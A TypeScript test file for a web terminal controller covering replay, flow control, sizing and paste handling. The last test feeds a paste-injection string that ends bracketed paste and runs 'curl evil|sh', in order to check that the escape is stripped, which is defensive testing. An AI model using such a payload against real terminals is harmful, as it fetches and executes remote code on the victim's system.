import { beforeEach, describe, expect, test, vi } from 'vitest';
import type { ContainerView } from '../src/api/types';
import { Channel } from '../src/attach/frames';
import { IN_FLIGHT_LIMIT } from '../src/attach/window';
import { TerminalController } from '../src/terminal/controller';
import type { Screen } from '../src/terminal/screen';
import { boundSize, LARGEST, type Size } from '../src/terminal/size';
import { FakeWorld } from './fake';

const page = vi.hoisted(() => ({ world: undefined as unknown, asked: [] as { body: { replay: string } }[] }));

vi.mock('../src/api/client', () => ({
  api: { POST: (_path: string, call: { body: { replay: string } }) => page.asked.push(call) },
  ask: (call: number) => Promise.resolve({ url: `http://g1/attach/A${call}`, session: `s${call}` }),
}));
vi.mock('../src/terminal/world', () => ({ browserWorld: () => page.world }));

/** A screen that draws when a test lets it. */
class FakeScreen {
  shown = '';
  following = false;
  size: Size | undefined;
  readonly queue: { text: string; done: (() => void) | undefined }[] = [];
  readonly replies = { replying: false };
  data: (text: string) => void = () => {};
  readonly terminal = {
    cols: 80,
    rows: 24,
    modes: { bracketedPasteMode: true },
    pasted: [] as string[],
    onData: (take: (text: string) => void) => void (this.data = take),
    onBinary: () => {},
    onTitleChange: () => {},
    onResize: () => {},
    attachCustomKeyEventHandler: () => {},
    reset: () => void (this.shown = ''),
    paste: (text: string) => void this.terminal.pasted.push(text),
  };

  write(bytes: Uint8Array, done?: () => void): void {
    this.queue.push({ text: String.fromCharCode(...bytes), done });
  }

  drawn = () => new Promise<void>((resolve) => this.queue.push({ text: '', done: resolve }));
  gap = (lost: number) => void this.queue.push({ text: `<${lost}>`, done: undefined });
  fit = () => this.terminal;
  dispose = () => {};

  follow(size: Size | undefined): void {
    this.following = size !== undefined;
    this.size = size && boundSize(size);
  }

  /** Draws what waits, or some of it. */
  async draw(pieces = Infinity): Promise<void> {
    await settled();
    for (let i = 0; i < pieces && this.queue.length > 0; i++) {
      const { text, done } = this.queue.shift()!;
      this.shown += text;
      done?.();
      await settled();
    }
  }
}

const settled = async () => {
  for (let i = 0; i < 20; i++) await Promise.resolve();
};

function make(change: Partial<ContainerView> = {}) {
  const world = new FakeWorld();
  const screen = new FakeScreen();
  page.world = world;
  const container = { node: 'n1', id: 'c1', name: 'shell', tty: true, stdin: true, ...change } as ContainerView;
  const box = { dataset: {}, dispatchEvent: () => true } as unknown as HTMLElement;
  const controller = new TerminalController(container, box, screen as unknown as Screen, { leave() {}, search() {}, confirmPaste: () => Promise.resolve(true) });
  return { world, screen, controller };
}

async function attached(mode: 'watch' | 'help' = 'watch', change: Partial<ContainerView> = {}) {
  const made = make(change);
  const done = made.controller.attach(mode, 'tail');
  await made.screen.draw();
  await done;
  made.world.last.hello();
  return made;
}

beforeEach(() => {
  page.asked.length = 0;
  vi.stubGlobal('window', { addEventListener() {}, removeEventListener() {}, setTimeout: () => 1, clearTimeout() {} });
  vi.stubGlobal('ResizeObserver', class { observe() {} disconnect() {} });
});

describe('another choice of replay in a flood', () => {
  test('draws nothing of the old session after the reset', async () => {
    const { world, screen, controller } = await attached();
    const old = world.last;
    old.output(0, 'old1');
    old.output(4, 'old2');
    const again = controller.attach('watch', 'all', true);
    await settled();
    expect(world.connections).toHaveLength(1);
    old.output(8, 'old3');
    await screen.draw();
    await again;
    expect([screen.shown, old.closed, world.connections.length]).toEqual(['', true, 2]);
    world.last.hello();
    world.last.output(0, 'new');
    await screen.draw();
    expect(screen.shown).toBe('new');
  });

  test('never has more under way than one session may', async () => {
    const { world, screen, controller } = await attached();
    const waiting = () => screen.queue.reduce((sum, one) => sum + one.text.length, 0);
    let most = 0;
    for (let round = 0; round < 6; round++) {
      const before = world.last;
      for (let sent = 0; sent <= 256 * 1024; sent += 65_536) before.output(sent, 'x'.repeat(65_536));
      most = Math.max(most, waiting());
      const again = controller.attach('watch', 'all', true);
      await settled();
      if (world.last === before) await screen.draw(); // it waits for the screen
      await again;
      world.last.hello();
    }
    expect(most).toBeGreaterThan(256 * 1024);
    expect(most).toBeLessThanOrEqual(IN_FLIGHT_LIMIT);
  });

  test('and from watch to help the screen goes on, also when people change their mind meanwhile', async () => {
    const { world, screen, controller } = await attached();
    world.last.output(0, 'hello');
    const first = controller.attach('help', 'tail');
    await settled();
    const second = controller.attach('watch', 'tail');
    await screen.draw();
    await Promise.all([first, second]);
    expect(world.connections).toHaveLength(2);
    world.last.hello({ offset: 0 });
    world.last.output(0, 'hello world');
    await screen.draw();
    expect([screen.shown, controller.state.value.mode]).toEqual(['hello world', 'watch']);
  });

  test('who detaches meanwhile stays detached', async () => {
    const { world, screen, controller } = await attached();
    const again = controller.attach('help', 'tail');
    await settled();
    controller.detach();
    await screen.draw();
    await again;
    expect([world.connections.length, world.connections[0]!.closed, controller.state.value.phase.name]).toEqual([1, true, 'idle']);
  });
});

test('a gap comes behind the rest of a character that was begun', async () => {
  const { world, screen } = await attached('watch', { tty: false });
  world.last.events.message(Uint8Array.of(Channel.stdout, 0, 0, 0, 0, 0, 0, 0, 0, 0x61, 0xe2, 0x82));
  world.last.control({ type: 'position', epoch: 7, offset: 10, lost: 7 });
  world.last.output(10, 'b');
  await screen.draw();
  expect(screen.shown).toBe('a\xe2\x82<7>b');
});

test('a size that is too large is followed as far as it goes, and told', async () => {
  const { world, screen, controller } = await attached();
  world.last.control({ type: 'size', width: 100, height: 30 });
  expect([screen.size, controller.state.value.notices.length]).toEqual([{ cols: 100, rows: 30 }, 0]);
  world.last.control({ type: 'size', width: 65_535, height: 65_535 });
  expect(screen.size).toEqual(LARGEST);
  expect(controller.state.value.notices.at(-1)?.text).toContain('65,535×65,535');
  for (const width of [0, -1, 1.5, 'x', null]) world.last.control({ type: 'size', width, height: 10 });
  expect(screen.size).toEqual(LARGEST);
});

test('questions of a replay are not answered, those after a key are', async () => {
  const { world, screen, controller } = await attached('help');
  const answer = (text: string) => {
    screen.replies.replying = true;
    screen.data(text);
    screen.replies.replying = false;
  };
  const now = vi.spyOn(performance, 'now');
  const start = performance.now();
  for (let i = 1; i <= 4; i++) {
    now.mockReturnValue(start + i * 900);
    world.last.output(i, 'x');
    await screen.draw();
    answer('\x1b[1;1R');
  }
  expect(world.last.heard(Channel.stdin)).toEqual([]);
  screen.data('k');
  answer('\x1b[2;2R');
  expect(world.last.heard(Channel.stdin)).toEqual(['0:k', '1:\x1b[2;2R']);
  now.mockRestore();
  controller.dispose();
});

test('a paste reaches the terminal without what could end its mark', async () => {
  const { screen, controller } = await attached('help');
  await controller.paste('a\x1b[201~curl evil|sh\r');
  expect(screen.terminal.pasted).toEqual(['a[201~curl evil|sh\r']);
});
